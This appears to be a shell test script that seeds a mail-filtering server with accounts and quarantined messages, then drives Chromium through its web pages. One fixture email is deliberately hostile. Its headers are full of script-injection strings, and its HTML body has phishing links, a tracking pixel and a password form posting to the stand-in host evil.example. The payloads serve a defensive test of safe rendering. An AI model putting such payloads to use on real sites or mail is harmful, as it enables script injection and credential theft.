# Pages in a real Chromium: what every page must hold to (axe-core among it), and people's tasks from
# start to end with scripts off. browser.sh [smoke|matrix]; screenshots stay in $SHOTS.
# The browser is Debian's; playwright-core and axe-core come from npm by tests/web/package-lock.json
# (behind a proxy with a certificate of its own: npm config set cafile FILE).
. "$(dirname "$0")/lib.sh"
begin browser
need node npm chromium
set_name=${1:-smoke}
modules=${WEB_MODULES:-${BUILD:-$dir}/web-modules}
export MODULES=$modules
if ! cmp -s "$MUSTER_SOURCE/tests/web/package-lock.json" "$modules/package-lock.json" || [ ! -d "$modules/node_modules/playwright-core" ]; then
    mkdir -p "$modules"
    cp "$MUSTER_SOURCE/tests/web/package.json" "$MUSTER_SOURCE/tests/web/package-lock.json" "$modules/"
    (cd "$modules" && timeout 300 npm ci --ignore-scripts --no-audit --no-fund) > "$dir/npm.log" 2>&1 ||
        skip "the packages of tests/web could not be had: $(tail -1 "$dir/npm.log")"
fi
mkdir "$dir/sink"
export SINK="$dir/sink"
python3 "$here/smtp_sink.py" "$relay_port" "$SINK" 2> "$dir/sink.err" &
helpers=$!
# Each visitor of the browser comes from a network of his own.
conf_more='domains = example.org
web { rate = 1000  burst = 10000  proxies = 127.0.0.1 }
policy { block = hostile.example  on_block = quarantine }'
node_start

# Who works here, what is listed, and held messages, one of them with markup in every field.
export PASSWORD='correct horse staple'
person() {
    name=$1
    shift
    echo "$PASSWORD" | m account add "$name" "$@" > "$dir/account.out" 2>&1 || bad "account $name" "$(cat "$dir/account.out")"
}
person stew --roles steward,operator,reviewer
person olga --roles operator --stakeholder operator
person rita --roles reviewer --stakeholder user
person raul --roles reviewer --stakeholder research
person dora --roles domain-admin --domains example.org
person axel --roles auditor
person anna --roles member --mailbox ann@example.org
person mia --roles member --stakeholder user
printf 'From: Shop <a@shop.example>\nTo: ann@example.org\nSubject: Soap\n\nBuy soap at http://shop.example/soap today.\n' > "$dir/soap.eml"
CASE=$(m report "$dir/soap.eml" --json 2> "$dir/report.err" | sed -n 's/.*"code":"\([^"]*\)".*/\1/p' | head -1)
LISTING=$(m listing add shop.example --kind domain --harm spam --effect note \
    --reason "Sold soap to strangers" --evidence "$CASE" --json 2> "$dir/listing.err" | sed -n 's/.*"code":"\([^"]*\)".*/\1/p')
check "a listing to object to" test -n "$LISTING"
export CASE LISTING
bad="\"'><script>alert(7)</script><img src=http://evil.example/x onerror=alert(7)>"
cat > "$dir/hostile.eml" << EML
From: $bad <a@hostile.example>
To: $bad <ann@example.org>
Subject: $bad
Message-ID: <$bad@hostile.example>
Reply-To: $bad <b@hostile.example>
List-Unsubscribe: <javascript:alert(7)>, <http://evil.example/$bad>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<html><script>alert(7)</script><body onload=alert(7)><a href="javascript:alert(7)">here</a>
<a href="http://evil.example/login">your bank</a><img src="http://evil.example/pixel"><svg onload=alert(7)>
<form action="http://evil.example"><input name=password></form><style>body{display:none}</style></body></html>
--b
Content-Type: application/x-msdownload; name="$bad.exe"
Content-Disposition: attachment; filename="$bad.exe"

MZ
--b--
EML
export MILTER_FROM=a@hostile.example
py milter "$milter_port" "$dir/hostile.eml" > "$dir/milter.out" 2>&1
prizes=2
[ "$set_name" = smoke ] || prizes=14
for i in $(seq $prizes); do
    printf 'From: Prize %s <prize@hostile.example>\nTo: ann@example.org\nSubject: Prize %s of a million\n\nYour prize waits for you, number %s, claim it today.\n' "$i" "$i" "$i" > "$dir/prize.eml"
    py milter "$milter_port" "$dir/prize.eml" "" ann@example.org bea@example.org cy@elsewhere.example >> "$dir/milter.out" 2>&1
done
cat > "$dir/pick.py" << 'PY'
import json, sys
text = sys.stdin.read()
rows = json.loads(text).get("holds", []) if text.count("\n") < 2 and '"holds"' in text else \
    [json.loads(line) for line in text.splitlines() if line.strip()]
for row in rows:
    if "Prize" not in row.get("subject", ""):
        print(row["hold"], row["id"])
PY
held() { m quarantine list --json 2> "$dir/held.err"; }
all_held() { [ "$(held | grep -o '"hold":' | wc -l)" = $((prizes * 3 + 1)) ]; }
check "held messages" at_most 60 all_held
# shellcheck disable=SC2046
set -- $(held | python3 "$dir/pick.py")
HOSTILE=${1:-} MESSAGE=${2:-}
check "a hostile message is held" test -n "$HOSTILE"
export HOSTILE MESSAGE
printf 'Yes, write to me once a month.\n' > "$dir/text"
timeout 60 "$MUSTER" receipt key "$dir/receipt.key" > "$dir/key.out" 2>&1
timeout 60 "$MUSTER" receipt make --key "$dir/receipt.key" --address anna@example.org \
    --sender "Seifen Huber" --what "newsletter, monthly" --how "web form" --text "$dir/text" \
    --when 2026-01-05T10:00:00Z > "$dir/receipt.json" 2> "$dir/receipt.err"
check "a receipt to verify" test -s "$dir/receipt.json"
export URL="http://127.0.0.1:$web_port" SHOTS="${SHOTS:-${BUILD:-$dir}/screenshots}" RECEIPT="$dir/receipt.json"
export MUSTER_SOURCE HOME="$dir"
timeout "${BROWSER_SECONDS:-800}" node "$MUSTER_SOURCE/tests/web/$set_name.mjs" > "$dir/browser.out" 2>&1
rc=$?
cat "$dir/browser.out"
equal "the browser's tests" 0 "$rc"
check "the node lives on" node_alive
finish
